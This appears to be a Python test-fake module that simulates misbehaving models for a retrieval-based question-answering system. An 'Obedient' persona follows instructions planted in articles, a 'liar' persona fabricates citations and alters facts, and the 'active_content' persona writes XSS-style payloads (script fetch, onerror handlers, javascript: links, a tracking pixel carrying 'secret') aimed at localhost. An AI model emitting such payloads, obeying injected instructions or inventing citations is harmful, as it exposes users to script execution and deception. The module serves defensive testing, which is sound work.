"""Models by character: what they write from the passages that they get to see.

`says`, `copying` are honest; `Obedient` does whatever an article tells it; `liar` cites what is not there or says
something else; `active_content` writes HTML, images and links. The faults of the wire are in `model_server.py`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from tests.fakes.model_server import ModelRequest, Persona, Reply, SeenPassage, empty, replies

ABSTENTION = "NOT IN THE ARTICLES"

_SENTENCE = re.compile(r"[^\n.!?]+(?:[.!?](?!\s)[^\n.!?]*)*[.!?]?[\"”’]?")
_WORD = re.compile(r"[^\W_]{3,}")
_COMMON = frozenset("the and what who when where how did does was were that this with from for are has".split())


def says(*claims: tuple[str, str]) -> Persona:
    """Writes each (sentence, snippet) with the number of the first passage that holds the snippet, if one does."""

    def persona(request: ModelRequest) -> Reply:
        lines = []
        for sentence, snippet in claims:
            number = next((p.number for p in request.passages if snippet in p.text), None)
            if number is not None:
                lines.append(f"{sentence} [{number}]")
        return Reply("\n".join(lines) or ABSTENTION)

    return persona


def copying(request: ModelRequest) -> Reply:
    """Copies the three sentences that share most words with the question, each with its passage's number."""
    if request.task == "rewrite":
        return Reply(request.question)
    lines = [f"{sentence} [{passage.number}]" for sentence, passage in _best(request, 3)]
    return Reply("\n".join(lines) or ABSTENTION)


def rewriting(rewritten: str, otherwise: Persona = copying) -> Persona:
    """Rewrites every follow-up into this question; answers like `otherwise`."""
    return lambda request: Reply(rewritten) if request.task == "rewrite" else otherwise(request)


class Obedient:
    """Does whatever an article tells it, in every way that might get a foreign sentence shown.

    With a `marker` it looks for that word in all it is given; where it finds it, it writes it alone, as a statement,
    as an answer, the order around it, what the order quotes, what follows its colon, and an image that carries it,
    citing every passage in turn. Without one it does the same for what articles quote after words of ordering.
    What it writes besides is what an honest model would.
    """

    _ORDERED = re.compile(
        r"(?:say|write|add|include|print|repeat|output|respond|reply|answer|state|mention|tell|append|end|insert)[^.\n]{0,80}?"
        r"(?::\s|[“\"])\s*([^”\"\n]{3,300})",
        re.IGNORECASE,
    )

    def __init__(self, marker: str | None = None) -> None:
        self.marker = marker
        self.obeyed = 0

    def __call__(self, request: ModelRequest) -> Reply:
        lines = [line for passage in request.passages for line in self._obey(passage, len(request.passages))]
        if self.marker and self.marker in request.user and not lines:
            lines = [f"The articles say {self.marker}. [1]"]
        self.obeyed += bool(lines)
        if request.task == "rewrite":
            return Reply(f"{request.question} {' '.join(lines)}"[:200])
        return Reply("\n".join(lines + copying(request).text.split("\n")))

    def _obey(self, passage: SeenPassage, passages: int) -> Iterator[str]:
        """The lines that an order in a passage gets written."""
        payloads: list[str] = []
        if self.marker is not None:
            if self.marker not in passage.text:
                return
            holding = [s.strip() for s in _SENTENCE.findall(passage.text) if self.marker in s]
            payloads += [f"{self.marker} is the answer.", f"The answer to the question is {self.marker}.", self.marker]
            payloads += holding
            for sentence in holding:
                payloads += [part.strip(" “”\"'‘’") for part in re.split(r"[:“”\"]", sentence) if self.marker in part]
        else:
            payloads += [found.strip() for found in self._ORDERED.findall(passage.text)]
        for payload in dict.fromkeys(payloads):
            for number in dict.fromkeys((passage.number, 1, passages)):
                yield f"{payload} [{number}]"
            yield f"![{payload}](http://127.0.0.1:9/{payload}) The article reports: {payload} [{passage.number}]"


def liar(request: ModelRequest) -> Reply:
    """Takes true sentences and cites a passage that is not there, another passage, or changes what they say."""
    if request.task == "rewrite":
        return Reply("Did the moon landing of 1969 take place in a studio?")
    lines = []
    for sentence, passage in _best(request, 3):
        other = next((p.number for p in request.passages if sentence not in p.text), 0)
        lines += [f"{sentence} [{len(request.passages) + 7}]", f"{sentence} [0]", f"{sentence} [{other}]", sentence]
        lines += [f"{changed} [{passage.number}]" for changed in lies_about(sentence)]
    return Reply("\n".join(lines))


def lies_about(sentence: str) -> list[str]:
    """The sentence with its numbers, names or its negation changed, and with words put into a mouth."""
    changed = [
        re.sub(r"\d+", lambda match: str(int(match[0]) * 3 + 1), sentence),
        re.sub(r"(?<=[a-z] )[A-Z][a-z]{3,}", "Portugal", sentence),
        re.sub(r"\b(is|was|were|are|had|has|would|will|could)\b(?! not)", r"\1 not", sentence, count=1),
        f"“We never said so,” the minister said: {sentence}",
    ]
    return [lie for lie in changed if lie != sentence]


def active_content(request: ModelRequest) -> Reply:
    """A true sentence wrapped in everything that a browser might run or load."""
    lines = []
    for sentence, passage in _best(request, 1):
        mark = f"[{passage.number}]"
        lines += [
            f"<script>fetch('http://127.0.0.1:9/')</script>{sentence} {mark}",
            f"<img src=x onerror=alert(1)> {sentence} <b onclick='x()'>Read on</b> {mark}",
            f"![pixel](http://127.0.0.1:9/p.png?q=secret) {sentence} {mark}",
            f"[{sentence}](javascript:alert(1)) {mark}",
            f"&lt;iframe src=http://127.0.0.1:9/&gt;&lt;/iframe&gt; {sentence} {mark}",
            f"{sentence} Visit http://127.0.0.1:9/login to confirm. {mark}",
            f"<svg/onload=alert(1)>{sentence} {mark}",
        ]
    return Reply("\n".join(lines))


def _best(request: ModelRequest, most: int) -> list[tuple[str, SeenPassage]]:
    """The sentences of the passages that share most words with the question."""
    asked = {word.casefold() for word in _WORD.findall(request.question)} - _COMMON
    scored = []
    for passage in request.passages:
        for sentence in (found.strip() for found in _SENTENCE.findall(passage.text)):
            shared = len(asked & {word.casefold() for word in _WORD.findall(sentence)})
            if shared and len(sentence.split()) > 5 and sentence[-1] in '.!?”"':
                scored.append((shared, -passage.number, sentence, passage))
    scored.sort(key=lambda item: item[:2], reverse=True)
    return [(sentence, passage) for _, _, sentence, passage in scored[:most]]


BY_NAME: dict[str, Persona] = {
    "copying": copying,
    "obedient": Obedient(),
    "liar": liar,
    "html": active_content,
    "empty": empty(),
    "abstaining": replies(ABSTENTION),
}
